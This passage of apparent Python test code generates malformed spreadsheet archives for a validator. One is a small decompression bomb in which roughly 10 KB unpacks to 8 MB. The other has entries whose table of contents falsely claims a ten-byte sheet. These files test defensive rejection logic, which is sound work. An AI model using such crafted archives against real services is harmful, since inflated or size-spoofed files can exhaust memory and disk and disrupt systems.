    pair("size-claimed-wrongly", lying(), plain, "FAIL", "FILE-001", "", "")


def bomb():
    """About 10 KB that unpack to 8 MB."""
    padded = Book()
    padded.sheets[0].after = " " * 8_000_000
    return archive(padded.entries(deflated=True))


def lying():
    """The table of contents says that the sheet is ten bytes long."""
    entries = Book().entries(deflated=True)
    for entry in entries:
        if entry.name.startswith(b"xl/worksheets/"):
            entry.size = 10
    return archive(entries)
